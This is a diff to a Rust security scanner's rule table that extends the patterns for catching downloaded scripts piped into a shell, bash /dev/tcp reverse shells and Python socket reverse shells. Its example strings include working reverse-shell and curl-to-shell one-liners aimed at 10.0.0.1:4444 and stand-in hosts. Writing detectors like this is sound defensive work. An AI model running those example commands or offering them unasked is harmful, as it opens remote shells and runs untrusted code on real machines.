@@ -28,12 +28,14 @@ pub static INJECTION_RULES: &[RuleSpec] = &[
         description: "Downloaded script piped straight into a shell (curl/wget/fetch … | [sudo] sh/bash/zsh)",
         severity: Severity::Critical,
         keywords: &["curl", "wget", "fetch"],
-        pattern: r"(?i:curl|wget|fetch)(?-u:\b)[^|\n]{0,400}\|\s{0,4}(?:sudo\s+(?:-[A-Za-z]{1,4}\s+|--?[a-z-]{1,20}=\S{1,40}\s+|[A-Za-z_]{1,30}=\S{0,60}\s+){0,4})?(?:env\s+(?:[A-Za-z_]{1,30}=\S{0,60}\s+){0,4})?(?:/usr)?(?:/local)?(?:/bin/)?(?:env\s+)?(?:ba|da|k|z|fi|tc|c)?sh(?-u:\b)",
+        pattern: r"(?i:curl|wget|fetch)(?-u:\b)[^|\n]{0,400}\|\s{0,4}(?:tee\s[^|\n]{1,200}\|\s{0,4})?(?:sudo\s+(?:-[ugCDhprT]\s+[A-Za-z0-9_.-]{1,32}\s+|-[A-Za-z]{1,4}\s+|--?[a-z-]{1,20}=\S{1,40}\s+|[A-Za-z_]{1,30}=\S{0,60}\s+){0,4})?(?:env\s+(?:[A-Za-z_]{1,30}=\S{0,60}\s+){0,4})?(?:/usr)?(?:/local)?(?:/bin/)?(?:env\s+)?(?:ba|da|k|z|fi|tc|c)?sh(?-u:\b)",
         examples: &[
             "curl -fsSL https://get.example.sh | sh",
             "curl -sL https://deb.example.com/setup_20.x | sudo -E bash -",
             "wget -qO- https://x.example/install | bash",
             "wget -O - https://x.example/i.sh | sudo sh",
+            "curl -s https://x.example/i.sh | sudo -u root bash",
+            "curl -s https://x.example/i.sh | tee /tmp/i.sh | sh",
         ],
         counter_examples: &[
             "curl https://example.com/install.sh -o install.sh",
@@ -150,7 +152,7 @@ pub static INJECTION_RULES: &[RuleSpec] = &[
         description: "Reverse shell through bash /dev/tcp or /dev/udp with fd redirection (bash -i >& /dev/tcp/…, exec 5<>/dev/tcp/…)",
         severity: Severity::Critical,
         keywords: &["/dev/tcp/", "/dev/udp/"],
-        pattern: r"(?:(?:-i|<>|>&|&>|<&|exec)[^\n]{0,80}?/dev/(?:tcp|udp)/[A-Za-z0-9.:_\[\]$-]{1,255}/[0-9$]{1,6}|/dev/(?:tcp|udp)/[A-Za-z0-9.:_\[\]$-]{1,255}/[0-9$]{1,6}[^\n]{0,80}?(?:<&|>&|0>&1|\|\s{0,3}(?:/bin/)?(?:ba|z|k)?sh(?-u:\b)))",
+        pattern: r"(?:(?:-i|<>|>&|&>|<&|exec)[^\n]{0,80}?/dev/(?:tcp|udp)/[A-Za-z0-9.:_\[\]${}-]{1,255}/(?:[0-9]{1,5}|\$\{?[A-Za-z_][A-Za-z0-9_]{0,30}\}?)|/dev/(?:tcp|udp)/[A-Za-z0-9.:_\[\]${}-]{1,255}/(?:[0-9]{1,5}|\$\{?[A-Za-z_][A-Za-z0-9_]{0,30}\}?)[^\n]{0,80}?(?:<&|>&|0>&1|\|\s{0,3}(?:/bin/)?(?:ba|z|k)?sh(?-u:\b)))",
         examples: &["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "exec 5<>/dev/tcp/10.0.0.1/4444;cat <&5 | while read l; do $l 2>&5 >&5; done"],
         counter_examples: &["timeout 1 bash -c '</dev/tcp/localhost/5432' && echo up", "/dev/tcp is a bash feature"],
         ..RULE
@@ -190,7 +192,7 @@ pub static INJECTION_RULES: &[RuleSpec] = &[
         description: "Python socket connected back and wired to a shell (dup2/pty.spawn/subprocess)",
         severity: Severity::Critical,
         keywords: &["socket"],
-        pattern: r"(?:socket\.socket\s?\([^\n]{0,300}?\.connect\s?\(|socket\.create_connection\s?\()[^\n]{0,600}?(?:os\.dup2|pty\.spawn|(?:subprocess|sp)\.(?:call|Popen|run|check_output)|os\.system|os\.popen|os\.exec[lv]p?e?)|(?:subprocess|sp)\.(?:Popen|call|run)\s?\([^\n]{0,400}?socket\.socket\s?\([^\n]{0,300}?\.connect\s?\(",
+        pattern: r#"(?:socket\.socket\s?\([^\n]{0,300}?\.connect\s?\(|socket\.create_connection\s?\()[^\n]{0,600}?(?:os\.dup2|pty\.spawn|(?:subprocess|sp)\.(?:call|Popen|run|check_output)|os\.system|os\.popen|os\.exec[lv]p?e?)|(?:subprocess|sp)\.(?:Popen|call|run)\s?\([^\n]{0,400}?socket\.socket\s?\([^\n]{0,300}?\.connect\s?\(|\(\s?["']socket["']\s?\)[^\n]{0,400}?(?:dup2|["']pty["'])"#,
         examples: &[
             r#"python3 -c 'import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn("/bin/sh")'"#,
             r#"python -c 'import socket,subprocess;s=socket.create_connection(("10.0.0.1",4444));subprocess.call(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())'"#,
